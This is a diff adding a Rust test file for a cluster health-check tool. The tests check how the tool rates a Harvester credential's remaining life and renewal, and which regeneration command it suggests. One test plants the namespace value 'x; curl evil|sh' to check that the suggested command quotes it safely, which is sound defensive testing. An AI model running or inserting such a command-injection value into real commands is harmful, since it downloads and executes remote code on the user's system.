@@ -1,0 +1,96 @@
+//! The credential for Harvester: how long it lasts, who renews it, and what makes it anew.
+
+use cloud_config::expiry::Expiry;
+use credential_rotation::{Renewal, SecretName, token::Claims};
+use rstest::rstest;
+
+use super::{super::*, NOW, answers, at, failed, healthy, told};
+use crate::doctor::facts::{Config, Trouble};
+
+/// A token of account `demo` that was given a life of so many hours, of which some are left.
+fn claims(life: i64, left: i64) -> Claims {
+    let ends = at(NOW) + jiff::SignedDuration::from_hours(left);
+    let issued = ends - jiff::SignedDuration::from_hours(life);
+    let bound_to = Some("demo-credentials".to_owned());
+    Claims { namespace: "team-a".to_owned(), account: "demo".to_owned(), issued, ends: Some(ends), bound_to }
+}
+
+fn lasts(config: &mut Config, life: i64, left: i64) {
+    let claims = claims(life, left);
+    config.expiry = claims.ends.map_or(Expiry::Never, Expiry::At);
+    config.claims = Some(claims);
+}
+
+fn line(facts: &Facts, id: &str) -> Finding {
+    examine(facts, Occasion::Daily).into_iter().find(|finding| finding.id == id).unwrap()
+}
+
+// the life of the token and what is left, in hours; whether a release renews it
+#[rstest]
+#[case::a_day_that_is_renewed(
+    24,
+    10,
+    true,
+    Verdict::Green,
+    "renewed by the leader that writes Secret kube-system/rotated"
+)]
+#[case::a_day_that_nobody_renews(24, 10, false, Verdict::Amber, "in 0 days")]
+#[case::late(24, 5, true, Verdict::Amber, "is late to renew it")]
+#[case::a_month_that_is_late(720, 160, true, Verdict::Amber, "is late to renew it")]
+#[case::a_month(720, 240, true, Verdict::Green, "it ends at")]
+#[case::over(24, -1, true, Verdict::Red, "it ended at")]
+fn an_end_within_a_week_is_amber_only_where_nobody_renews_the_token_in_time(
+    #[case] life: i64,
+    #[case] left: i64,
+    #[case] is_renewed: bool,
+    #[case] verdict: Verdict,
+    #[case] words: &str,
+) {
+    let mut facts = healthy();
+    let config = facts.config.as_mut().unwrap();
+    lasts(config, life, left);
+    config.renewal = is_renewed.then(|| Renewal {
+        claims: claims(life, left),
+        secret: SecretName::read("kube-system/rotated").unwrap(),
+    });
+    let found = line(&facts, "credential-life");
+    assert_eq!(found.verdict, verdict, "{found:?}");
+    assert!(found.sentence.contains(words), "{found:?}");
+    assert_eq!(found.mend.is_some(), verdict != Verdict::Green, "{found:?}");
+}
+
+#[test]
+fn the_lines_about_the_cloud_config_and_its_life_say_which_token_is_used() {
+    let mut facts = healthy();
+    facts.config.as_mut().unwrap().note = Some("Secret x/y has a newer token".to_owned());
+    for id in ["cloud-config", "credential-life"] {
+        let found = line(&facts, id);
+        assert!(found.sentence.ends_with("; Secret x/y has a newer token"), "{found:?}");
+    }
+}
+
+#[test]
+fn what_makes_a_cloud_config_anew_is_a_command_that_can_be_typed() {
+    let ended = told(|facts| lasts(facts.config.as_mut().unwrap(), 720, -1));
+    assert_eq!(ended[0], ("credential-life", Verdict::Red));
+    let mut facts = healthy();
+    lasts(facts.config.as_mut().unwrap(), 720, -1);
+    let typed = "harvester-cloud-provider cloud-config generate --format kubeconfig --rotate demo team-a > cloud-config`";
+    let mend = line(&facts, "credential-life").mend.unwrap();
+    assert!(mend.contains(typed), "{mend}");
+    // somebody else may have written the file
+    facts.config.as_mut().unwrap().namespace = "x; curl evil|sh".to_owned();
+    let mend = line(&facts, "credential-life").mend.unwrap();
+    assert!(mend.contains("demo 'x; curl evil|sh' >"), "{mend}");
+    let mut facts = healthy();
+    answers(
+        &mut facts.harvester,
+        &read::balancers("team-a"),
+        Err(failed(Trouble::Unauthorized, "Unauthorized")),
+    );
+    let mend = line(&facts, "harvester-login").mend.unwrap();
+    assert!(
+        mend.contains("cloud-config generate --format kubeconfig ACCOUNT team-a > cloud-config"),
+        "{mend}"
+    );
+}
